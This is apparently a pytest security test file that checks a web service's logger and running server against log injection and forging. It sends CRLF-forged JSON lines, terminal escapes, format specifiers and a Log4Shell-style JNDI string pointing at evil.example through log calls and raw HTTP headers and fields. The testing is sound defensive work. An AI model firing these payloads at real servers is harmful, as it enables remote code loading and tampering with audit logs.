"""No line of the log is made by who asks, nor has a word of theirs (CWE-117, CWE-532)."""

from __future__ import annotations

import json
import logging
from urllib.parse import quote

import pytest

from api.logs import FIELDS, _libraries, log
from tests.attack.test_wire import ask, statuses
from tests.journeys.served import Served
from tests.ordeal import tell

MARK = "zqlogged"
LINES = (
    f'{MARK}\r\n{{"event": "{MARK}", "level": "error"}}\r\n', f"\n{MARK}", f"\x1b[2K{MARK}\r",
    f"%(asctime)s {{{MARK}}} %s %n", f"\u2028{MARK}\u0085", f"${{jndi:ldap://evil.example/{MARK}}}",
)  # fmt: skip
"""What would end a line and begin another, or be filled in by who writes or reads it."""


def faults(written: str) -> list[str]:
    """The lines that are not the service's own: an object of codes in named fields."""
    found = []
    for line in written.splitlines():
        try:
            fields = json.loads(line)
            own = isinstance(fields, dict) and set(fields) <= FIELDS
        except ValueError:
            own = False
        if not own or MARK in line:
            found.append(line)
    return found


@pytest.mark.parametrize("text", LINES)
def test_what_is_handed_over(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """By a line that is written in haste, and by a library that writes what it was sent."""
    log.error(text, type=text, id=text, step=text, other=text)
    log.warning("invented", type=f"Invented{text}")
    _libraries.handle(logging.LogRecord("waitress", logging.ERROR, "", 1, text, (), None))
    written = capsys.readouterr().err
    assert faults(written) == []
    assert '"event": "invented"' in written
    assert '"logger": "waitress"' in written


def requests(text: str) -> list[bytes]:
    """Requests with it in each place that a server could note."""
    path, raw = quote(text), text.encode()
    one_line = raw.replace(b"\r", b"").replace(b"\n", b"")
    body = json.dumps({"username": text, "password": text, "code": text, "token": text}).encode()
    form = f"words={path}&wren-username={path}".encode()
    json_head = b"Content-Type: application/json\r\nContent-Length: %d" % len(body)
    form_head = b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d" % len(
        form
    )
    host = b"Host: x\r\nConnection: close"
    made = [
        (f"GET /{path} HTTP/1.1", host, b""), (f"GET /o/eeast?{path}={path} HTTP/1.1", host, b""),
        (f"GET /api/v1/organisations/{path} HTTP/1.1", host, b""),
        ("POST /api/v1/sign-in HTTP/1.1", host + b"\r\n" + json_head, body),
        ("POST /api/v1/sessions HTTP/1.1", host + b"\r\n" + json_head, body),
        ("POST /return HTTP/1.1", host + b"\r\n" + form_head, form),
    ]  # fmt: skip
    names = (b"User-Agent", b"Referer", b"X-Forwarded-For", b"Cookie", b"Authorization", b"Origin")
    made += [("GET /console HTTP/1.1", b"%b\r\n%b: %b" % (host, name, one_line), b"")
             for name in (*names, b"X-" + MARK.encode())]  # fmt: skip
    sent = [b"%b\r\n%b\r\n\r\n%b" % (line.encode(), head, rest) for line, head, rest in made]
    # And what is no request at all.
    return [*sent, raw + b"\r\n\r\n", b"GET " + raw + b" HTTP/1.1\r\n\r\n", MARK.encode() * 9000]


@pytest.mark.ordeal
@pytest.mark.timeout(300)
def test_it_works(served: Served) -> None:
    """A running server, whose whole output is read."""
    before, sent = len(served.written()), 0
    for text in LINES:
        for one in requests(text):
            told = statuses(ask(served.url, one, wait=5.0))
            assert all(status < 500 for status in told), one
            sent += 1
    written = served.written()[before:].decode()
    lost = faults(written)
    tell("attack", "requests that would write into the log", tried=sent, lost=len(lost))
    assert lost == []
